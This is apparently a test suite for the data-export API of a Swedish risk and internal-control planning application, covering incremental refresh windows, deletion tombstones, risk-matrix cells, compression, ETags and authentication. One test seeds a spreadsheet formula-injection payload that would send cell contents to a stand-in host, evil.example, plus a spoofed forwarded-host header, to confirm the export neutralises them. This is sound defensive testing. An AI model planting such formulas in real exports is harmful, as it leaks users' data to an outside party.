import t from 'tap';
import zlib from 'node:zlib';
import { sql } from 'drizzle-orm';
import { buildTestApp, gqlOk, token } from './helper.js';
import { csvRecords } from './csv-parse.js';
import { seedPlan, servicenamndenVor, smallVor } from './fixtures/seed-plan.js';
import { rawRows } from '../src/db/raw.js';

// Issue 15: exports an incrementally refreshed Power BI model can trust.

const { app, database } = await buildTestApp(t, { PUBLIC_BASE_URL: 'https://ik.example.se/base' });
const db = database.db;
const sn = await seedPlan(db, servicenamndenVor());
const ks = await seedPlan(db, smallVor('KS', 2026));

type Row = Record<string, unknown>;
const get = (url: string, roles: string[] | null = ['admin'], headers: Record<string, string> = {}) =>
  app.inject({ url, headers: roles ? { authorization: `Bearer ${token(roles)}`, ...headers } : headers });
async function rows(url: string, roles: string[] = ['admin']): Promise<Row[]> {
  const out: Row[] = [];
  let next: string | null = url;
  while (next) {
    const res = await get(next.replace('https://ik.example.se/base', ''), roles);
    if (res.statusCode !== 200) throw new Error(`${next}: ${res.statusCode} ${res.body}`);
    const page = res.json() as { value: Row[]; nextLink: string | null };
    out.push(...page.value);
    next = page.nextLink;
  }
  return out;
}
// Changes get a later timestamp than anything before them: a window starts strictly after the seed.
const mark = async () => {
  const before = new Date();
  await new Promise((r) => setTimeout(r, 5));
  return before.toISOString();
};
const planVersion = async (id: string) =>
  (await gqlOk(app, `query($id: ID!) { planById(id: $id) { version } }`, { id })).planById.version as number;
async function reopen(planId: string) {
  await gqlOk(app, `mutation($i: ReasonInput!) { reopenPlan(input: $i) { id } }`, { i: { id: planId, version: await planVersion(planId), reason: 'Ändring' } });
}

t.test('raising the IKP threshold returns exactly the risks whose IKP membership changed', async (t) => {
  await reopen(sn.planId);
  const before = await rows('/api/v1/exports/risks.json?namnd=SN');
  const since = await mark();
  await gqlOk(app, `mutation($i: UpdatePlanSettingsInput!) { updatePlanSettings(input: $i) { ikpThreshold } }`, {
    i: { id: sn.planId, version: await planVersion(sn.planId), ikpThreshold: 12 },
  });
  const after = new Map((await rows('/api/v1/exports/risks.json?namnd=SN')).map((r) => [r.risk_id, r]));
  const moved = before.filter((r) => r.in_ikp !== after.get(r.risk_id)!.in_ikp).map((r) => r.risk_id);
  t.equal(moved.length, 9, '9 risks leave the IKP');
  const changed = await rows(`/api/v1/exports/risks.json?namnd=SN&updatedSince=${since}`);
  t.same(changed.map((r) => r.risk_id).sort(), [...after.keys()].sort(), 'every risk of the plan is returned (band and IKP follow the plan)');
  t.ok(moved.every((id) => changed.some((r) => r.risk_id === id)));
  const notBefore = await rows(`/api/v1/exports/risks.json?namnd=SN&updatedBefore=${since}`);
  t.equal(notBefore.length, 0, 'updatedBefore uses the same definition');
  t.equal((await rows(`/api/v1/exports/risks.json?namnd=KS&updatedSince=${since}`)).length, 0, 'other plans untouched');
});

t.test('renaming a process returns its working methods and risks; their names follow', async (t) => {
  const [pr] = await rawRows<{ id: string; version: number }>(db, sql`select id, version from processes where plan_id = ${sn.planId} order by sort_order limit 1`);
  const since = await mark();
  await gqlOk(app, `mutation($i: UpdateProcessInput!) { updateProcess(input: $i) { id } }`, { i: { id: pr.id, version: pr.version, name: 'Omdöpt process' } });
  const risks = await rows(`/api/v1/exports/risks.json?updatedSince=${since}`);
  t.ok(risks.length > 0);
  t.ok(risks.every((r) => r.process === 'Omdöpt process' && r.process_id === pr.id));
  const [{ n }] = await rawRows<{ n: number }>(db, sql`select count(*)::int as n from risks r join working_methods wm on wm.id = r.working_method_id where wm.process_id = ${pr.id}`);
  t.equal(risks.length, n, 'exactly the risks under the process');
  const wms = await rows(`/api/v1/exports/working-methods.json?updatedSince=${since}`);
  t.ok(wms.length > 0 && wms.every((w) => w.process === 'Omdöpt process'));
  t.same((await rows(`/api/v1/exports/processes.json?updatedSince=${since}`)).map((p) => p.process_id), [pr.id]);
});

t.test('created_at never changes and createdSince/createdBefore partition the rows', async (t) => {
  const all = await rows('/api/v1/exports/risks.json');
  t.ok(all.every((r) => typeof r.created_at === 'string' && r.created_at <= (r.updated_at as string)));
  const cut = (all.map((r) => r.created_at as string).sort()[Math.floor(all.length / 2)]);
  const low = await rows(`/api/v1/exports/risks.json?createdBefore=${cut}`);
  const high = await rows(`/api/v1/exports/risks.json?createdSince=${cut}`);
  t.equal(low.length + high.length, all.length, 'every row in exactly one partition');
  t.ok(low.every((r) => (r.created_at as string) < cut) && high.every((r) => (r.created_at as string) >= cut));
});

t.test('star-schema keys lead to the parents', async (t) => {
  const [risk] = await rows('/api/v1/exports/risks.json?namnd=KS');
  const wm = (await rows('/api/v1/exports/working-methods.json?namnd=KS')).find((w) => w.working_method_id === risk.working_method_id)!;
  t.equal(wm.process_id, risk.process_id);
  const pr = (await rows('/api/v1/exports/processes.json?namnd=KS')).find((p) => p.process_id === risk.process_id)!;
  t.equal(pr.goal_id, risk.goal_id);
  const goal = (await rows('/api/v1/exports/goals.json')).find((g) => g.goal_id === risk.goal_id)!;
  t.equal(goal.goal_code, risk.goal_code);
});

t.test('risk-matrix-cells: 25 cells per plan, bands as on the risks, counts add up', async (t) => {
  const cells = await rows('/api/v1/exports/risk-matrix-cells.json?namnd=SN&top=7');
  t.equal(cells.length, 25);
  t.equal(new Set(cells.map((c) => `${c.likelihood}/${c.consequence}`)).size, 25);
  const risks = await rows('/api/v1/exports/risks.json?namnd=SN');
  const assessed = risks.filter((r) => r.rv !== null);
  t.equal(cells.reduce((s, c) => s + (c.risk_count as number), 0), assessed.length);
  t.ok(cells.filter((c) => (c.risk_count as number) === 0).length > 0, 'empty cells are rows too');
  for (const r of assessed) {
    const c = cells.find((x) => x.likelihood === r.likelihood && x.consequence === r.consequence)!;
    t.same([c.band, c.band_color, c.band_order, c.rv], [r.band, r.band_color, r.band_order, r.rv]);
  }
  t.same([...new Set(cells.map((c) => `${c.band_order}:${c.band}`))].sort(), ['1:LAG', '2:MEDIUM', '3:KRITISK']);
  // A re-valued risk moves its cell's count, and the cells' updated_at says so.
  const target = assessed[0];
  const since = await mark();
  await gqlOk(app, `mutation($i: UpdateRiskInput!) { updateRisk(input: $i) { id } }`, {
    i: { id: target.risk_id, version: (await rawRows<{ version: number }>(db, sql`select version from risks where id = ${target.risk_id}`))[0].version, likelihood: target.likelihood === 5 ? 4 : 5 },
  });
  t.equal((await rows(`/api/v1/exports/risk-matrix-cells.json?namnd=SN&updatedSince=${since}`)).length, 25);
  t.equal((await rows(`/api/v1/exports/risk-matrix-cells.json?namnd=KS&updatedSince=${since}`)).length, 0);
});

t.test('bridges keep tags and periods apart, whatever they contain', async (t) => {
  const [action] = await rows('/api/v1/exports/actions.json?namnd=SN');
  await db.execute(sql`update actions set tags = ${'{"a,b","c;d"}'}::text[] where id = ${action.action_id}`);
  const tags = (await rows('/api/v1/exports/action-tags.json')).filter((r) => r.action_id === action.action_id);
  t.same(tags.map((r) => r.tag).sort(), ['a,b', 'c;d']);
  const csv = csvRecords((await get('/api/v1/exports/action-tags.csv')).body);
  t.same(csv.records.filter((r) => r.action_id === action.action_id).map((r) => r.tag).sort(), ['a,b', 'c;d']);
  const periods = await rows('/api/v1/exports/control-activity-periods.json?namnd=KS');
  const [ca] = await rows('/api/v1/exports/control-activities.json?namnd=KS');
  t.same(periods.filter((p) => p.control_activity_id === ca.control_activity_id).map((p) => p.period), (ca.periods as string).split(','));
  t.ok(periods.every((p) => p.period_label));
  // A removed tag is a deletion; one that comes back is not.
  const since = await mark();
  await db.execute(sql`update actions set tags = ${'{"c;d"}'}::text[] where id = ${action.action_id}`);
  let gone = await rows(`/api/v1/exports/deletions.json?updatedSince=${since}`);
  t.same(gone.map((d) => [d.dataset, d.row_id]), [['action-tags', `${action.action_id}/a,b`]]);
  await db.execute(sql`update actions set tags = ${'{"a,b","c;d"}'}::text[] where id = ${action.action_id}`);
  gone = await rows(`/api/v1/exports/deletions.json?updatedSince=${since}`);
  t.same(gone, [], 'the returning tag cancels its tombstone');
});

t.test('deletions: one row per deleted row, cascades included, readable per nämnd', async (t) => {
  const risk = (await rows('/api/v1/exports/risks.json?namnd=KS'))[0];
  const controls = (await rows('/api/v1/exports/controls.json?namnd=KS')).filter((c) => c.risk_id === risk.risk_id);
  const activities = (await rows('/api/v1/exports/control-activities.json?namnd=KS')).filter((c) => c.risk_id === risk.risk_id);
  const followUps = (await rows('/api/v1/exports/follow-ups.json?namnd=KS')).filter((c) => c.risk_id === risk.risk_id);
  t.ok(controls.length && activities.length && followUps.length, 'the risk has children');
  await reopen(ks.planId);
  const since = await mark();
  const [{ version }] = await rawRows<{ version: number }>(db, sql`select version from risks where id = ${risk.risk_id}`);
  await gqlOk(app, `mutation($i: DeleteVersionedInput!) { deleteRisk(input: $i) }`, { i: { id: risk.risk_id, version } });
  const gone = await rows(`/api/v1/exports/deletions.json?updatedSince=${since}`);
  const ids = (ds: string) => gone.filter((d) => d.dataset === ds).map((d) => d.row_id).sort();
  t.same(ids('risks'), [risk.risk_id]);
  t.same(ids('controls'), controls.map((c) => c.control_id).sort());
  t.same(ids('control-activities'), activities.map((c) => c.control_activity_id).sort());
  t.same(ids('follow-ups'), followUps.map((c) => c.follow_up_id).sort());
  t.ok(ids('control-activity-periods').length >= activities.length, 'bridge rows go with their owner');
  t.ok(gone.every((d) => d.namnd_code === 'KS' && d.year === 2026 && d.plan_id === ks.planId));
  t.same(await rows(`/api/v1/exports/deletions.json?updatedSince=${since}`, ['viewer:SN']), [], 'another nämnd sees none');
  t.equal((await rows(`/api/v1/exports/deletions.json?updatedSince=${since}`, ['viewer:KS'])).length, gone.length);
  t.equal((await rows(`/api/v1/exports/deletions.json?updatedBefore=${since}&namnd=KS`)).length, 0);
  t.equal((await rows('/api/v1/exports/risks.json')).filter((r) => r.risk_id === risk.risk_id).length, 0);
});

t.test('a deleted plan leaves a tombstone for every row, each with its nämnd and year', async (t) => {
  const scratch = await seedPlan(db, smallVor('UF', 2027));
  const counts = Object.fromEntries(
    await Promise.all(['processes', 'risks', 'follow-ups', 'risk-matrix-cells'].map(async (ds) => [ds, (await rows(`/api/v1/exports/${ds}.json?namnd=UF`)).length])),
  );
  const since = await mark();
  await db.execute(sql`delete from plans where id = ${scratch.planId}`);
  const gone = await rows(`/api/v1/exports/deletions.json?updatedSince=${since}&namnd=UF`);
  for (const [ds, n] of Object.entries(counts)) t.equal(gone.filter((d) => d.dataset === ds).length, n, `${ds}: ${n}`);
  t.equal(gone.filter((d) => d.dataset === 'plans').length, 1);
  t.ok(gone.every((d) => d.namnd_code === 'UF' && d.year === 2027));
});

t.test('CSV neutralises formulas (OWASP); JSON keeps the value exactly', async (t) => {
  const title = '=HYPERLINK("http://evil.example/?"&A2,"Klicka")';
  await db.execute(sql`update risks set title = ${title} where id = ${sn.riskIds.get(1)!}`);
  await db.execute(sql`update actions set owner = '@SUM(1+1)' where plan_id = ${sn.planId}`);
  for (const [param, delimiter] of [['', ';'], ['?delimiter=comma', ',']]) {
    const { records } = csvRecords((await get(`/api/v1/exports/risks.csv${param}`)).body, delimiter);
    t.equal(records.find((r) => r.risk_id === sn.riskIds.get(1))!.title, `'${title}`);
  }
  const actions = csvRecords((await get('/api/v1/exports/actions.csv')).body).records;
  t.ok(actions.some((a) => a.owner === "'@SUM(1+1)"));
  const json = await rows('/api/v1/exports/risks.json?namnd=SN');
  t.equal(json.find((r) => r.risk_id === sn.riskIds.get(1))!.title, title);
  for (const bad of ['+1', '-1', '\tx', '\rx']) {
    await db.execute(sql`update risks set title = ${bad} where id = ${sn.riskIds.get(1)!}`);
    const { records } = csvRecords((await get('/api/v1/exports/risks.csv?namnd=SN')).body);
    t.equal(records.find((r) => r.risk_id === sn.riskIds.get(1))!.title, `'${bad}`, JSON.stringify(bad));
  }
  const nums = csvRecords((await get('/api/v1/exports/risks.csv?namnd=SN')).body).records;
  t.ok(nums.every((r) => !r.nr.startsWith("'")), 'numbers are untouched');
});

t.test('compression when asked, streamed; identical content', async (t) => {
  const plain = await get('/api/v1/exports/risks.csv');
  t.notOk(plain.headers['content-encoding']);
  const gz = await get('/api/v1/exports/risks.csv', ['admin'], { 'accept-encoding': 'gzip' });
  t.equal(gz.headers['content-encoding'], 'gzip');
  t.equal(zlib.gunzipSync(gz.rawPayload).toString('utf8'), plain.body);
  const br = await get('/api/v1/exports/risks.json', ['admin'], { 'accept-encoding': 'br' });
  t.equal(br.headers['content-encoding'], 'br');
  t.same(JSON.parse(zlib.brotliDecompressSync(br.rawPayload).toString('utf8')), (await get('/api/v1/exports/risks.json')).json());
});

t.test('weak ETag and Last-Modified; 304 on If-None-Match until something changes', async (t) => {
  const first = await get('/api/v1/exports/controls.json?namnd=SN');
  const etag = first.headers.etag as string;
  t.match(etag, /^W\/"[\w-]+"$/);
  t.ok(first.headers['last-modified'] && !Number.isNaN(Date.parse(first.headers['last-modified'] as string)));
  const again = await get('/api/v1/exports/controls.json?namnd=SN', ['admin'], { 'if-none-match': etag });
  t.equal(again.statusCode, 304);
  t.equal(again.body, '');
  t.equal(again.headers.etag, etag);
  t.not((await get('/api/v1/exports/controls.csv?namnd=SN')).headers.etag, etag, 'CSV has its own tag');
  t.not((await get('/api/v1/exports/controls.json?namnd=KS')).headers.etag, etag, 'another filter, another tag');
  await db.execute(sql`update controls set description = 'Ny rutin' where id = (select min(id::text)::uuid from controls where plan_id = ${sn.planId})`);
  t.equal((await get('/api/v1/exports/controls.json?namnd=SN', ['admin'], { 'if-none-match': etag })).statusCode, 200, 'a change');
  const changed = (await get('/api/v1/exports/controls.json?namnd=SN')).headers.etag as string;
  await db.execute(sql`delete from controls where id = (select min(id::text)::uuid from controls where plan_id = ${sn.planId})`);
  t.equal((await get('/api/v1/exports/controls.json?namnd=SN', ['admin'], { 'if-none-match': changed })).statusCode, 200, 'a deletion');
});

t.test('HTTP: WWW-Authenticate on 401, inverted windows refused, nextLink from PUBLIC_BASE_URL only', async (t) => {
  const anon = await get('/api/v1/exports/risks.json', null);
  t.equal(anon.statusCode, 401);
  t.equal(anon.headers['www-authenticate'], 'Bearer');
  for (const w of ['updated', 'created']) {
    const res = await get(`/api/v1/exports/risks.json?${w}Since=2026-02-01T00:00:00Z&${w}Before=2026-01-01T00:00:00Z`);
    t.equal(res.statusCode, 400);
    t.equal(res.json().code, 'VALIDATION_FAILED');
    t.same(res.json().fields.map((f: { path: string }) => f.path), [`${w}Since`]);
  }
  t.equal((await get('/api/v1/exports/risks.json?updatedSince=2026-01-01&updatedBefore=2026-01-01')).statusCode, 200, 'an empty window is fine');
  const page = (await get('/api/v1/exports/risks.json?top=2', ['admin'], { 'x-forwarded-host': 'evil.example', host: 'other.example' })).json();
  t.match(page.nextLink, /^https:\/\/ik\.example\.se\/base\/api\/v1\/exports\/risks\.json\?top=2&cursor=/);
});
